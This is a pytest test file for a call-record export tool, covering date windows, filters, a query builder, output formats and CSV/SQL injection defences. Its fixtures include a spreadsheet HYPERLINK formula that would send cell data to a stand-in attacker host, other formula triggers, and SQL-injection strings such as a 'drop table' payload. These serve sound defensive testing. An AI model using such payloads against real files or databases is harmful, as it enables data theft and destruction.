"""``cdrwh export`` and orchestration.exports (DESIGN §8), on a crafted serving snapshot.

The snapshot holds a small marts.fct_calls and exports.export_flowroute (all of its calls in the Flowroute
layout, text cells crafted for CSV injection), as the export marts publish them.
"""

from __future__ import annotations

import gzip
import json
from datetime import date, datetime, timezone
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest

from orchestration.exports import (
    OPS,
    ExportError,
    ExportFilters,
    ExportRequest,
    SnapshotNotReady,
    parse_window,
    relative_window,
    run_export,
)
from orchestration.exports import writers as export_writers
from tests.conftest import cdrwh

FCT_CALLS_DDL = """
create table marts.fct_calls (
    cdr_id varchar, start_time timestamp, call_date date, source_vendor varchar, direction varchar,
    call_status varchar, call_type varchar, calling_number varchar, called_number varchar,
    called_country varchar, caller_ip varchar, number_alias varchar, tags varchar, billing_class varchar,
    duration_s integer, billable_duration_s integer, vendor_charge decimal(18, 8), vendor_currency varchar,
    vendor_subtotal decimal(18, 8), vendor_connect_fee decimal(18, 8), vendor_usf_fee decimal(18, 8),
    vendor_ccrf decimal(18, 8), vendor_cnam_fee decimal(18, 8), international_call boolean, mos double
)
"""

# cdr_id, start, vendor, direction, status, type, calling, called, country, ip, alias, tags, billing,
# duration, billable, charge, currency, subtotal, connect, usf, ccrf, cnam, international, mos
CALLS = [
    ("c1", "2026-11-20 00:00:00", "flowroute", "outbound", "answered", "voice", "+12065550100", "+442071838750", "GB", "203.0.113.7", "sales", "blue,vip", "international", 65, 66, "0.01320000", "USD", "0.01000000", "0.00100000", "0.00150000", "0.00050000", "0.00020000", True, 4.2),
    ("c2", "2026-11-20 23:59:59", "flowroute", "inbound", "no_answer", "voice", "+15035550111", "+18005550199", "US", "198.51.100.2", "support", None, "toll_free", 0, 0, "0", "USD", "0", "0", "0", "0", "0", False, None),
    ("c3", "2026-11-21 00:00:00", "flowroute", "outbound", "answered", "voice", "+12065550100", "+12065550101", "US", "203.0.113.7", "sales", None, "local", 10, 60, "0.00500000", "USD", "0.00500000", "0", "0", "0", "0", False, 4.0),
    ("c4", "2026-11-19 23:59:59", "flowroute", "outbound", "answered", "voice", "+12065550100", "+12065550102", "US", "203.0.113.7", "sales", None, "local", 10, 60, "0.00500000", "USD", "0.00500000", "0", "0", "0", "0", False, 4.0),
    ("c5", "2026-11-20 12:00:00", "callr", "outbound", "answered", "voice", "+33140000000", "+33612345678", "FR", None, None, "red", "mobile", 30, 30, "0.02000000", "EUR", "0.02000000", "0", "0", "0", "0", False, 3.9),
    ("c6", "2026-11-20 13:00:00", "flowroute", "outbound", "failed", "emergency", "+12065550100", "+12065550999", "US", "203.0.113.7", "sales", None, "local", 0, 0, "0", "USD", "0", "0", "0", "0", "0", False, None),
    ("c7", "2026-11-20 14:00:00", "flowroute", "outbound", "abandoned", "voice", "+12065550100", "911", "US", "203.0.113.7", None, None, "local", 0, 0, "0", "USD", "0", "0", "0", "0", "0", False, None),
    ("c8", "2026-11-20 15:00:00", "didww", "outbound", "blocked", "voice", "+4930111111", "+4930222222", None, "192.0.2.1", None, "blue", None, 0, 0, "0", "EUR", "0", "0", "0", "0", "0", None, None),
    ("c9", "2026-11-20 16:00:00", "flowroute", "outbound", "busy", "voice", "+12065550100", "+12065550123", "US", "203.0.113.7", "sales", None, "local", 0, 0, "0", "USD", "0", "0", "0", "0", "0", False, None),
    ("c10", "2026-11-20 17:00:00", "flowroute", "inbound", "answered", "voice", "+442071838750", "+12065550100", "US", "198.51.100.2", "sales", "vip", "national", 120, 120, "0.00850000", "USD", "0.00600000", "0.00100000", "0.00100000", "0.00050000", "0.00100000", True, 4.4),
]  # fmt: skip
DAY = {"c1", "c2", "c5", "c6", "c7", "c8", "c9", "c10"}  # the calls starting on 2026-11-20 (UTC)

# Text cells of the Flowroute layout: custom_x_tag, line_information.
CELLS = {
    "c1": ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "-5"),
    "c5": ("@SUM(A1:A9)", "+12065550100"),
    "c9": ("-2+3", "+1 206 555 0100"),
    "c10": ("plain tag", "12.5"),
}
LAYOUT_COLUMNS = [
    "direction",
    "start_time",
    "destination",
    "callerid",
    "total_cost",
    "result",
    "duration",
    "custom_x_tag",
    "line_information",
]


def build_serving(path: Path) -> Path:
    """A serving snapshot with marts.fct_calls and exports.export_flowroute, as the pipeline publishes."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with duckdb.connect(str(path)) as con:
        con.execute("create schema marts; create schema exports")
        con.execute(FCT_CALLS_DDL)
        con.executemany(
            "insert into marts.fct_calls values (?, cast(? as timestamp), cast(? as timestamp)::date, "
            + ", ".join("?" * 22)
            + ")",
            [(c[0], c[1], c[1], *c[2:]) for c in CALLS],
        )
        con.execute("create table exports.cells (cdr_id varchar, x_tag varchar, line_info varchar)")
        con.executemany("insert into exports.cells values (?, ?, ?)", [(k, *v) for k, v in CELLS.items()])
        con.execute(
            """
            create table exports.export_flowroute as
            select f.cdr_id as _cdr_id, f.start_time as _start_time, f.direction, f.start_time,
                   f.called_number as destination, f.calling_number as callerid, f.vendor_charge as total_cost,
                   f.call_status as result, f.duration_s as duration,
                   c.x_tag as custom_x_tag, c.line_info as line_information
            from marts.fct_calls f left join exports.cells c using (cdr_id)
            """
        )
        con.execute("drop table exports.cells")
        # A layout whose rows fail while being read (error() on one call): an export that breaks mid-way.
        con.execute(
            """
            create view exports.export_callr as
            select cdr_id as _cdr_id, start_time as _start_time,
                   case when cdr_id = 'c9' then error('boom: the read failed') else cdr_id end as id
            from marts.fct_calls
            """
        )
    return path


@pytest.fixture
def serving(tmp_path: Path) -> Path:
    return build_serving(tmp_path / "serving.duckdb")


def _window(day: str = "2026-11-20") -> tuple[datetime, datetime]:
    return parse_window(day, day)


def export(serving: Path, out: Path, **kwargs) -> tuple:
    window_from, window_to = kwargs.pop("window", _window())
    request = ExportRequest(
        layout=kwargs.pop("layout", "flowroute"),
        window_from=window_from,
        window_to=window_to,
        vendors=kwargs.pop("vendors", ()),
        filters=kwargs.pop("filters", ExportFilters()),
        query=kwargs.pop("query", None),
        out=out,
    )
    assert not kwargs
    summary = run_export(request, serving=serving)
    return summary


def exported_ids(serving: Path, tmp_path: Path, **kwargs) -> set[str]:
    """The cdr_ids an export writes (matched back on the layout's start_time and destination)."""
    out = tmp_path / "ids.parquet"
    export(serving, out, **kwargs)
    with duckdb.connect() as con:
        con.execute(f"attach '{serving}' as s (read_only)")
        rows = con.execute(
            f"select f.cdr_id from read_parquet('{out}') x join s.marts.fct_calls f "
            "on x.start_time = f.start_time and x.destination = f.called_number"
        ).fetchall()
    out.unlink()
    return {r[0] for r in rows}


# --- the window -------------------------------------------------------------------------------------------


def test_a_date_alone_is_the_whole_utc_day():
    assert parse_window("2026-11-20", "2026-11-20") == (datetime(2026, 11, 20), datetime(2026, 11, 21))


def test_the_window_end_day_includes_its_last_second(serving, tmp_path):
    ids = exported_ids(serving, tmp_path)
    assert ids == DAY  # c2 starts at 23:59:59 and is in; c3 at 11-21 00:00 and c4 on the 19th are out


def test_a_timestamp_end_is_exclusive(serving, tmp_path):
    window = parse_window("2026-11-20T00:00:00", "2026-11-20T23:59:59")
    assert "c2" not in exported_ids(serving, tmp_path, window=window)
    window = parse_window("2026-11-20T00:00:01", "2026-11-21T00:00:00")
    assert exported_ids(serving, tmp_path, window=window) == DAY - {"c1"}


def test_offsets_are_converted_to_utc_and_naive_timestamps_are_utc():
    assert parse_window("2026-11-20T01:00:00+01:00", "2026-11-20T12:00:00Z") == (
        datetime(2026, 11, 20, 0, 0),
        datetime(2026, 11, 20, 12, 0),
    )
    assert parse_window("2026-11-20 08:30", "2026-11-20T20:00:00-05:00") == (
        datetime(2026, 11, 20, 8, 30),
        datetime(2026, 11, 21, 1, 0),
    )


def test_an_offset_window_selects_by_utc(serving, tmp_path):
    # 13:00+01:00 is 12:00 UTC: c5 (12:00) is in; 16:00-01:00 is 17:00 UTC, exclusive: c10 (17:00) is out.
    window = parse_window("2026-11-20T13:00:00+01:00", "2026-11-20T16:00:00-01:00")
    assert exported_ids(serving, tmp_path, window=window) == {"c5", "c6", "c7", "c8", "c9"}


def test_92_days_are_accepted_and_93_refused_with_the_split():
    assert parse_window("2026-01-01", "2026-04-02") == (datetime(2026, 1, 1), datetime(2026, 4, 3))
    with pytest.raises(ExportError) as refused:
        parse_window("2026-01-01", "2026-04-03")
    message = str(refused.value)
    assert "93 days" in message and "at most 92 days" in message
    assert (
        "--from 2026-01-01T00:00:00 --to 2026-04-03T00:00:00, then --from 2026-04-03T00:00:00 "
        "--to 2026-04-04T00:00:00" in message
    )


def test_a_year_is_split_into_four_exports():
    with pytest.raises(ExportError, match="split it into 4 exports"):
        parse_window("2026-01-01", "2026-12-31")


@pytest.mark.parametrize(
    ("start", "end"), [("2026-11-20T10:00:00", "2026-11-20T10:00:00"), ("2026-11-21", "2026-11-20")]
)
def test_an_empty_or_reversed_window_is_refused(start, end):
    with pytest.raises(ExportError, match="is not before --to"):
        parse_window(start, end)


def test_a_bad_bound_names_the_flag_and_value():
    with pytest.raises(ExportError, match=r"--to '20/11/2026': not a date or timestamp"):
        parse_window("2026-11-20", "20/11/2026")


def test_a_request_checks_its_window_too(tmp_path):
    with pytest.raises(ExportError, match="at most 92 days"):
        ExportRequest("flowroute", datetime(2026, 1, 1), datetime(2026, 6, 1), out=tmp_path / "x.csv")


@pytest.mark.parametrize(
    ("name", "today", "expected"),
    [
        ("yesterday", date(2026, 3, 15), ("2026-03-14", "2026-03-15")),
        ("today", date(2026, 3, 15), ("2026-03-15", "2026-03-16")),
        ("last_7_days", date(2026, 3, 15), ("2026-03-08", "2026-03-15")),
        ("last_month", date(2026, 3, 15), ("2026-02-01", "2026-03-01")),
        ("last_month", date(2026, 1, 1), ("2025-12-01", "2026-01-01")),
        ("month_to_date", date(2026, 3, 15), ("2026-03-01", "2026-03-16")),
        ("month_to_date", date(2026, 3, 1), ("2026-03-01", "2026-03-02")),
    ],
)
def test_relative_windows(name, today, expected):
    assert relative_window(name, today) == tuple(datetime.fromisoformat(e) for e in expected)


def test_an_unknown_relative_window_is_refused():
    with pytest.raises(ExportError, match="'last_year': not a known window; use one of yesterday"):
        relative_window("last_year", date(2026, 3, 15))


# --- the Flowroute filters --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("vendors", "filters", "expected"),
    [
        (("flowroute",), {}, {"c1", "c2", "c6", "c7", "c9", "c10"}),
        (("callr", "DIDWW"), {}, {"c5", "c8"}),
        ((), {"caller_ip": "203.0.113.7"}, {"c1", "c6", "c7", "c9"}),
        ((), {"duration": ">=60"}, {"c1", "c10"}),
        ((), {"duration": ">65"}, {"c10"}),
        ((), {"duration": "=65"}, {"c1"}),
        ((), {"duration": "<=30"}, {"c2", "c5", "c6", "c7", "c8", "c9"}),
        ((), {"duration": "< 30"}, {"c2", "c6", "c7", "c8", "c9"}),
        ((), {"cost": ">0.01"}, {"c1", "c5"}),
        ((), {"cost": "=0.0132"}, {"c1"}),
        ((), {"cost": "<=0.0085"}, {"c2", "c6", "c7", "c8", "c9", "c10"}),
        ((), {"cost": "<0.0085"}, {"c2", "c6", "c7", "c8", "c9"}),
        ((), {"cost": ">=.02"}, {"c5"}),
        ((), {"direction": "Inbound"}, {"c2", "c10"}),
        ((), {"destination_prefix": ("44",)}, {"c1"}),
        ((), {"destination_prefix": ("+1206", "33")}, {"c5", "c6", "c9", "c10"}),
        ((), {"callerid_prefix": "1206"}, {"c1", "c6", "c7", "c9"}),
        ((), {"number_alias": ("sales",)}, {"c1", "c6", "c9", "c10"}),
        ((), {"number_alias": ("support", "sales")}, {"c1", "c2", "c6", "c9", "c10"}),
        ((), {"destination_number": ("+1 (206) 555-0100",)}, {"c10"}),
        ((), {"destination_number": ("442071838750", "+12065550123")}, {"c1", "c9"}),
        ((), {"custom_tag": ("vip",)}, {"c1", "c10"}),
        ((), {"custom_tag": ("red", "blue")}, {"c1", "c5", "c8"}),
        ((), {"country": ("gb", "FR")}, {"c1", "c5"}),
        ((), {"exclude_country": ("US",)}, {"c1", "c5", "c8"}),  # c8's country is unknown: kept
        ((), {"tollfree_only": True}, {"c2"}),
        ((), {"no_tollfree": True}, DAY - {"c2"}),  # c8 has no billing class: kept
        ((), {"exclude_cancelled": True}, DAY - {"c2", "c7"}),  # no_answer and abandoned; busy c9 stays
        ((), {"e911_only": True}, {"c6", "c7"}),  # emergency call type; 911 dialled
        ((), {"exclude_failed": True}, DAY - {"c6", "c8"}),  # failed and blocked
        (("flowroute",), {"duration": ">=60", "direction": "outbound"}, {"c1"}),
    ],
)
def test_each_flowroute_filter(serving, tmp_path, vendors, filters, expected):
    assert exported_ids(serving, tmp_path, vendors=vendors, filters=ExportFilters(**filters)) == expected


@pytest.mark.parametrize(
    ("filters", "needle"),
    [
        ({"caller_ip": "300.1.1.1"}, "--caller-ip '300.1.1.1'"),
        (
            {"duration": "abc"},
            "--duration 'abc': not a comparison; write OP VALUE with OP one of < <= = >= >",
        ),
        ({"duration": "60"}, "--duration '60': not a comparison"),
        ({"duration": "==60"}, "--duration '==60': not a comparison"),
        ({"duration": "!=60"}, "--duration '!=60': not a comparison"),
        ({"duration": ">=-5"}, "--duration '>=-5': a duration is 0 seconds or more"),
        ({"cost": "<cheap"}, "--cost '<cheap'"),
        ({"direction": "sideways"}, "--direction 'sideways': use one of inbound, outbound"),
        ({"destination_prefix": ("44a",)}, "--destination-prefix '44a'"),
        ({"callerid_prefix": "abc"}, "--callerid-prefix 'abc'"),
        ({"destination_number": ("12345678901234567",)}, "--destination-number '12345678901234567'"),
        ({"country": ("GBR",)}, "--country 'GBR': not an ISO 3166-1 alpha-2"),
        ({"exclude_country": ("1",)}, "--exclude-country '1'"),
        ({"custom_tag": ("",)}, "--custom-tag ''"),
        (
            {"tollfree_only": True, "no_tollfree": True},
            "--tollfree-only and --no-tollfree exclude each other",
        ),
    ],
)
def test_bad_filter_values_name_the_flag_and_value(filters, needle):
    with pytest.raises(ExportError) as refused:
        ExportFilters(**filters)
    assert needle in str(refused.value)


def test_an_unknown_vendor_is_refused_with_the_vendors(serving, tmp_path):
    with pytest.raises(ExportError, match=r"--vendor 'flowrout': .* vendors: callr, didww, flowroute"):
        export(serving, tmp_path / "x.csv", vendors=("flowrout",))
    with pytest.raises(ExportError, match=r"--vendor 'flow route!'"):
        export(serving, tmp_path / "x.csv", vendors=("flow route!",))


# --- the query builder ------------------------------------------------------------------------------------


def rule(field: str, op: str, value: object = None, **extra) -> dict:
    node = {"field": field, "op": op, **extra}
    if value is not None:
        node["value"] = value
    return node


@pytest.mark.parametrize(
    ("rules", "expected"),
    [
        ([rule("call_status", "=", "answered")], {"c1", "c5", "c10"}),
        ([rule("call_status", "!=", "answered")], DAY - {"c1", "c5", "c10"}),
        ([rule("duration_s", "<", 30)], DAY - {"c1", "c5", "c10"}),
        ([rule("duration_s", "<=", 30)], DAY - {"c1", "c10"}),
        ([rule("duration_s", ">", "65")], {"c10"}),
        ([rule("duration_s", ">=", 65)], {"c1", "c10"}),
        ([rule("vendor_charge", ">", 0.0131)], {"c1", "c5"}),
        ([rule("source_vendor", "in", ["callr", "didww"])], {"c5", "c8"}),
        ([rule("source_vendor", "not_in", ["flowroute"])], {"c5", "c8"}),
        ([rule("called_number", "starts_with", "+44")], {"c1"}),
        ([rule("tags", "contains", "vip")], {"c1", "c10"}),
        ([rule("duration_s", "contains", "2")], {"c10"}),  # the field compared as text: '120'
        ([rule("called_country", "is_null")], {"c8"}),
        ([rule("tags", "is_not_null")], {"c1", "c5", "c8", "c10"}),
        ([rule("duration_s", "between", [30, 65])], {"c1", "c5"}),
        ([rule("start_time", ">=", "2026-11-20T18:00:00+02:00")], {"c2", "c9", "c10"}),
        (
            [rule("start_time", "between", ["2026-11-20T13:00:00", "2026-11-20T15:00:00Z"])],
            {"c6", "c7", "c8"},
        ),
        ([rule("call_date", "=", "2026-11-20")], DAY),
        ([rule("international_call", "=", True)], {"c1", "c10"}),
        ([rule("international_call", "=", "false")], {"c2", "c5", "c6", "c7", "c9"}),
        ([rule("mos", ">=", 4.2)], {"c1", "c10"}),
    ],
)
def test_every_query_op(serving, tmp_path, rules, expected):
    assert exported_ids(serving, tmp_path, query={"match": "all", "rules": rules}) == expected


def test_the_ops_tested_are_all_the_ops():
    assert set(OPS) == {"=", "!=", "<", "<=", ">", ">=", "in", "not_in", "starts_with", "contains"} | {
        "is_null",
        "is_not_null",
        "between",
    }


def test_nested_groups_all_and_any(serving, tmp_path):
    query = {
        "match": "all",
        "rules": [
            rule("call_status", "=", "answered"),
            {"match": "any", "rules": [rule("source_vendor", "=", "callr"), rule("duration_s", ">", 100)]},
        ],
    }
    assert exported_ids(serving, tmp_path, query=query) == {"c5", "c10"}
    query = {
        "match": "any",
        "rules": [
            {
                "match": "all",
                "rules": [rule("direction", "=", "inbound"), rule("call_status", "=", "no_answer")],
            },
            {"rules": [rule("call_type", "=", "emergency")]},  # match defaults to all
        ],
    }
    assert exported_ids(serving, tmp_path, query=query) == {"c2", "c6"}


def test_query_and_flowroute_filters_combine(serving, tmp_path):
    query = {"match": "any", "rules": [rule("duration_s", ">", 0), rule("call_type", "=", "emergency")]}
    ids = exported_ids(serving, tmp_path, query=query, filters=ExportFilters(caller_ip="203.0.113.7"))
    assert ids == {"c1", "c6"}


@pytest.mark.parametrize(
    ("query", "needles"),
    [
        (
            {
                "match": "all",
                "rules": [rule("duration_s", ">", 1), {"match": "any", "rules": [rule("nope", "=", 1)]}],
            },
            [
                "query rules[1].rules[0]: unknown field 'nope'",
                "the fields of marts.fct_calls: cdr_id, start_time",
            ],
        ),
        (
            {"match": "all", "rules": [rule("cdr_id", "=", "c1"), rule("duration_s", "like", 1)]},
            ["query rules[1]: unknown op 'like'", "ops: = != < <= > >= in not_in starts_with contains"],
        ),
        ({"match": "some", "rules": [rule("cdr_id", "=", "c1")]}, ["query (top): match 'some'"]),
        ({"match": "all", "rules": []}, ["query (top): a group needs a non-empty list of rules"]),
        ({"match": "all", "rules": [rule('cdr_id" = cdr_id or "1', "=", 1)]}, ["unknown field"]),
        (
            {"rules": [rule("source_vendor", "in", "callr")]},
            ["rules[0] (source_vendor in): the value is a list"],
        ),
        (
            {"rules": [rule("duration_s", "between", [1, 2, 3])]},
            ["rules[0] (duration_s between): the value is a list of two"],
        ),
        ({"rules": [rule("tags", "is_null", "x")]}, ["rules[0] (tags is_null): is_null takes no value"]),
        ({"rules": [rule("duration_s", ">", "abc")]}, ["rules[0] (duration_s >): 'abc' is not a number"]),
        (
            {"rules": [rule("duration_s", "in", [1, "x"])]},
            ["rules[0] (duration_s in) value[1]: 'x' is not a number"],
        ),
        ({"rules": [rule("start_time", ">", "yesterday")]}, ["'yesterday' is not a timestamp"]),
        ({"rules": [rule("cdr_id", "=")]}, ["rules[0] (cdr_id =): a value is required"]),
        ({"rules": [rule("cdr_id", "=", "c1", extra="x")]}, ["rules[0]: unknown key(s) extra"]),
        ({"rules": ["cdr_id = 'c1'"]}, ["rules[0]: a rule is an object"]),
    ],
)
def test_bad_queries_are_refused_with_the_json_path(serving, tmp_path, query, needles):
    out = tmp_path / "x.csv"
    with pytest.raises(ExportError) as refused:
        export(serving, out, query=query)
    for needle in needles:
        assert needle in str(refused.value)
    assert not out.exists()


def test_sql_in_a_value_matches_nothing_and_changes_nothing(serving, tmp_path):
    for op, value in [("=", "x' or 1=1 --"), ("in", ["x' or 1=1 --", "'); drop table marts.fct_calls; --"])]:
        query = {"match": "all", "rules": [rule("cdr_id", op, value)]}
        assert exported_ids(serving, tmp_path, query=query) == set()
    assert (
        exported_ids(serving, tmp_path, query={"rules": [rule("tags", "contains", "%' or '1'='1")]}) == set()
    )
    with duckdb.connect(str(serving), read_only=True) as con:
        assert con.execute("select count(*) from marts.fct_calls").fetchone()[0] == len(CALLS)
        assert con.execute("select count(*) from exports.export_flowroute").fetchone()[0] == len(CALLS)


def test_values_are_bound_never_pasted(serving):
    from orchestration.exports import compile_query

    sql, params = compile_query(
        {"match": "any", "rules": [rule("cdr_id", "=", "x' or 1=1 --"), rule("tags", "in", ["a", "b"])]},
        {"cdr_id": "VARCHAR", "tags": "VARCHAR"},
    )
    assert sql == '(f."cdr_id" = ? or f."tags" in (?, ?))'
    assert params == ["x' or 1=1 --", "a", "b"]


# --- output formats, CSV injection, the summary -------------------------------------------------------------


def read_back(path: Path) -> tuple[list[str], list[tuple]]:
    with duckdb.connect() as con:
        if path.name.endswith((".csv", ".csv.gz")):
            relation = con.execute(f"select * from read_csv('{path}', header = true, all_varchar = true)")
        elif path.name.endswith(".parquet"):
            relation = con.execute(f"select * from read_parquet('{path}')")
        else:
            relation = con.execute(f"select * from read_json('{path}', format = 'newline_delimited')")
        return [d[0] for d in relation.description], relation.fetchall()


@pytest.mark.parametrize("name", ["calls.csv", "calls.csv.gz", "calls.parquet", "calls.ndjson"])
def test_every_format_reads_back_with_the_layout_columns(serving, tmp_path, name):
    out = tmp_path / name
    summary = export(serving, out)
    columns, rows = read_back(out)
    assert columns == LAYOUT_COLUMNS  # no _cdr_id, _start_time
    assert summary.rows_written == len(rows) == len(DAY)
    starts = [str(row[1]) for row in rows]
    assert starts == sorted(starts) and starts[0] == "2026-11-20 00:00:00"  # in start order, UTC
    destinations = {row[2] for row in rows}
    assert "+442071838750" in destinations and "911" in destinations
    assert list(tmp_path.glob(".*.tmp")) == []
    if name.endswith(".gz"):
        with gzip.open(out, "rt") as text:
            assert text.readline().startswith("direction,start_time,destination")
    if name.endswith(".ndjson"):
        first = json.loads(out.read_text().splitlines()[0])
        assert list(first) == LAYOUT_COLUMNS and first["start_time"] == "2026-11-20 00:00:00"


@pytest.mark.parametrize("name", ["calls.csv", "calls.csv.gz"])
def test_csv_cells_that_would_run_as_formulas_are_neutralised(serving, tmp_path, name):
    out = tmp_path / name
    export(serving, out)
    columns, rows = read_back(out)
    cells = {row[2]: dict(zip(columns, row, strict=True)) for row in rows}
    c1, c5, c9, c10 = (cells[n] for n in ("+442071838750", "+33612345678", "+12065550123", "+12065550100"))
    assert c1["custom_x_tag"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert c1["line_information"] == "-5"  # a number
    assert c5["custom_x_tag"] == "'@SUM(A1:A9)"
    assert c5["line_information"] == "+12065550100"  # an E.164 number is a number, not a formula
    assert c9["custom_x_tag"] == "'-2+3"
    assert c9["line_information"] == "'+1 206 555 0100"  # not a plain number: a spreadsheet would compute it
    assert c10["custom_x_tag"] == "plain tag" and c10["line_information"] == "12.5"
    assert c1["destination"] == "+442071838750" and c1["callerid"] == "+12065550100"


@pytest.mark.parametrize("name", ["calls.parquet", "calls.ndjson"])
def test_typed_formats_keep_text_as_it_is(serving, tmp_path, name):
    out = tmp_path / name
    export(serving, out)
    columns, rows = read_back(out)
    tags = {dict(zip(columns, row, strict=True))["custom_x_tag"] for row in rows}
    assert '=HYPERLINK("http://evil.example/?x="&A1,"click")' in tags and "@SUM(A1:A9)" in tags


def test_the_summary_figures_per_currency(serving, tmp_path):
    summary = export(serving, tmp_path / "calls.csv")
    assert [t.currency for t in summary.by_currency] == ["EUR", "USD"]
    eur, usd = summary.by_currency
    assert (eur.num_calls, eur.billed_minutes, eur.total_cost) == (2, Decimal("0.50"), Decimal("0.02"))
    # No subtotal and no itemised fees (CALLR): the subtotal is the whole charge.
    assert eur.call_subtotal == eur.total_cost
    assert usd.num_calls == 6
    assert usd.billed_minutes == Decimal("3.10")  # (66 + 120) s
    assert usd.total_cost == Decimal("0.0217")
    assert usd.call_subtotal == Decimal("0.016")
    assert usd.connect_fees == Decimal("0.002")
    assert usd.usf_fees == Decimal("0.0025")
    assert usd.ccrf == Decimal("0.001")
    assert usd.cnam_lookup_fees == Decimal("0.0012")
    assert summary.num_calls == 8 and summary.billed_minutes == Decimal("3.60")
    metadata = summary.metadata()
    assert metadata["num_calls"] == 8 and metadata["total_cost_USD"] == pytest.approx(0.0217)


def test_the_summary_follows_the_filters(serving, tmp_path):
    summary = export(serving, tmp_path / "calls.csv", filters=ExportFilters(duration=">=60"))
    (usd,) = summary.by_currency
    assert (usd.num_calls, usd.total_cost, usd.billed_minutes) == (2, Decimal("0.0217"), Decimal("3.10"))
    empty = export(serving, tmp_path / "none.csv", filters=ExportFilters(country=("JP",)))
    assert empty.by_currency == () and empty.rows_written == 0
    assert read_back(tmp_path / "none.csv")[1] == []


# --- whole or not at all ------------------------------------------------------------------------------------


def test_a_failure_mid_way_leaves_no_file_and_the_old_one_intact(serving, tmp_path):
    out = tmp_path / "calls.csv"
    out.write_text("the previous export\n")
    with pytest.raises(duckdb.Error, match="boom"):
        export(serving, out, layout="callr")
    assert out.read_text() == "the previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["calls.csv", "serving.duckdb"]


def test_a_failed_rename_leaves_no_file(serving, tmp_path, monkeypatch):
    out = tmp_path / "calls.parquet"
    out.write_bytes(b"old")

    def refuse(source, destination):
        raise OSError("disk full")

    monkeypatch.setattr(export_writers.os, "replace", refuse)
    with pytest.raises(OSError, match="disk full"):
        export(serving, out)
    assert out.read_bytes() == b"old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["calls.parquet", "serving.duckdb"]


@pytest.mark.parametrize(
    ("out", "needle"),
    [
        ("missing/calls.csv", "does not exist"),
        ("adir.csv", "is a folder"),
        ("calls.xlsx", "end the file name with .csv.gz, .csv, .parquet, .ndjson"),
    ],
)
def test_bad_destinations_are_refused(serving, tmp_path, out, needle):
    (tmp_path / "adir.csv").mkdir()
    with pytest.raises(ExportError, match=needle):
        export(serving, tmp_path / out)


def test_missing_snapshot_and_missing_mart(serving, tmp_path):
    with pytest.raises(SnapshotNotReady, match="no serving snapshot"):
        export(tmp_path / "nope.duckdb", tmp_path / "x.csv")
    with pytest.raises(SnapshotNotReady, match=r"no exports\.export_didww_inbound yet"):
        export(serving, tmp_path / "x.csv", layout="didww_inbound")


def test_a_request_takes_aware_datetimes_as_utc_and_shows_progress_on_request(serving, tmp_path):
    from datetime import timedelta
    from datetime import timezone as tz

    paris = tz(timedelta(hours=1))
    request = ExportRequest(
        "flowroute",
        datetime(2026, 11, 20, 13, 0, tzinfo=paris),
        datetime(2026, 11, 20, 15, 0, tzinfo=paris),
        out=tmp_path / "x.ndjson",
    )
    assert (request.window_from, request.window_to) == (
        datetime(2026, 11, 20, 12),
        datetime(2026, 11, 20, 14),
    )
    summary = run_export(request, serving=serving, progress=True)
    assert summary.rows_written == 2  # c5 at 12:00 and c6 at 13:00 UTC


def test_reads_the_snapshot_read_only_while_another_reader_holds_it(serving, tmp_path):
    before = serving.stat().st_mtime_ns
    with duckdb.connect(str(serving), read_only=True) as other:
        export(serving, tmp_path / "x.csv")
        assert other.execute("select count(*) from marts.fct_calls").fetchone()[0] == len(CALLS)
    assert serving.stat().st_mtime_ns == before


# --- the command line -----------------------------------------------------------------------------------


def test_cli_export_end_to_end(cdrwh_home, tmp_path):
    build_serving(cdrwh_home / "serving.duckdb")
    out = tmp_path / "fr.csv"
    query = tmp_path / "rules.json"
    query.write_text(json.dumps({"match": "any", "rules": [rule("duration_s", ">", 0)]}))
    result = cdrwh(
        cdrwh_home,
        "export",
        "--layout=flowroute",
        "--from=2026-11-20",
        "--to=2026-11-20",
        "--vendor=flowroute",
        "--duration=>=60",
        "--query",
        str(query),
        "--out",
        str(out),
    )
    assert result.returncode == 0, result.stderr
    assert "Wrote 2 rows (flowroute layout, csv)" in result.stdout
    assert "calls started 2026-11-20 00:00:00 to 2026-11-21 00:00:00 UTC" in result.stdout
    lines = {line.split()[0]: line.split()[1:] for line in result.stdout.splitlines()[2:]}
    assert lines["num_calls"] == ["2"] and lines["billed_minutes"] == ["3.10"]
    assert lines["total_cost"] == ["0.02170000"] and lines["cnam_lookup_fees"] == ["0.00120000"]
    assert set(lines) >= {"call_subtotal", "connect_fees", "usf_fees", "ccrf"}
    assert len(read_back(out)[1]) == 2


def test_cli_export_default_destination_and_relative_window(cdrwh_home):
    build_serving(cdrwh_home / "serving.duckdb")
    result = cdrwh(cdrwh_home, "export", "--layout", "flowroute", "--window", "yesterday")
    assert result.returncode == 0, result.stderr
    start, end = relative_window("yesterday", datetime.now(timezone.utc).date())
    calls = sum(start <= datetime.fromisoformat(c[1]) < end for c in CALLS)
    assert f"Wrote {calls} row{'' if calls == 1 else 's'} (flowroute layout, csv)" in result.stdout
    assert f"calls started {start:%Y-%m-%d %H:%M:%S} to {end:%Y-%m-%d %H:%M:%S} UTC" in result.stdout
    (written,) = (cdrwh_home / "exports").glob(f"flowroute_{start:%Y%m%dT%H%M%S}Z_{end:%Y%m%dT%H%M%S}Z.csv")
    assert written.read_text().startswith("direction,start_time")
    assert len(read_back(written)[1]) == calls


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (["--duration", "abc"], "cdrwh export: error: --duration 'abc': not a comparison"),
        (["--country", "USA"], "--country 'USA': not an ISO 3166-1 alpha-2"),
        (
            ["--to", "2027-11-20"],
            "split it into 4 exports (at most 92 days each, --to exclusive): --from 2026-11-20T00:00:00",
        ),
        (["--window", "today"], "--window and --from/--to exclude each other"),
        (["--tollfree-only", "--no-tollfree"], "not allowed with argument --tollfree-only"),
        (["--layout", "excel"], "argument --layout: invalid choice: 'excel'"),
        (["--query", "missing.json"], "--query 'missing.json': cannot read it"),
        (["--out", "x.txt"], "--out 'x.txt': end the file name with"),
    ],
)
def test_cli_bad_flags_exit_2_with_the_flag_and_value(cdrwh_home, args, needle):
    build_serving(cdrwh_home / "serving.duckdb")
    base = ["export", "--layout", "flowroute", "--from", "2026-11-20", "--to", "2026-11-20"]
    result = cdrwh(cdrwh_home, *base, *args)
    assert result.returncode == 2, result.stdout + result.stderr
    assert needle in result.stderr


